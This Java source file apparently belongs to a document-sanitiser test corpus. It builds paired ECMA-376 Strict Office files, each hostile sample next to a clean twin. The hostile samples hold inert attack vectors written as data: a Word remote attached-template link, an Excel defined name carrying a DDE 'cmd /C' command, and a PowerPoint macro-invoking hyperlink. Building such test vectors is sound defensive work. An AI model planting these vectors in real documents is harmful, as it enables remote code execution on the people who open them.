package jp.kiyome.testcorpus.ooxml;

import java.util.List;
import java.util.function.Supplier;
import jp.kiyome.testcorpus.sample.Vector;

/** Files of ECMA-376 Strict (part 1, as Office saves them): other namespaces and relationship types, the same vectors. */
final class StrictFiles {

    private StrictFiles() {}

    static List<Vector> all() {
        return List.of(
                vector(
                        "docx",
                        () -> Docx.settings(Docx.saying("Sum"), "<w:attachedTemplate r:id=\"rIdTem\"/>")
                                .relateOut(
                                        "word/settings.xml",
                                        "rIdTem",
                                        Rel.office("attachedTemplate"),
                                        "http://example.invalid/marker.dotm"),
                        () -> Docx.settings(Docx.saying("Sum"), "")),
                vector(
                        "xlsx",
                        () -> Xlsx.names(sheet(), "<definedName name=\"Rate\">cmd|' /C marker'!A0</definedName>"),
                        StrictFiles::sheet),
                vector(
                        "pptx",
                        () -> slide("<a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=marker\"/>"),
                        () -> slide("")));
    }

    private static OoxmlPackage sheet() {
        return Xlsx.strings(Xlsx.of(Xlsx.row(1, Xlsx.shared("A1", "0"))), "<si><t>Sum</t></si><si><t/></si>");
    }

    private static OoxmlPackage slide(String click) {
        return Pptx.of(Pptx.box(2, "Sum", click));
    }

    private static Vector vector(String type, Supplier<OoxmlPackage> hostile, Supplier<OoxmlPackage> twin) {
        return Vector.of("strict-" + type, type, () -> hostile.get().strict().bytes(), () -> twin.get()
                        .strict()
                        .bytes())
                .loses("marker")
                .keeps("Sum");
    }
}
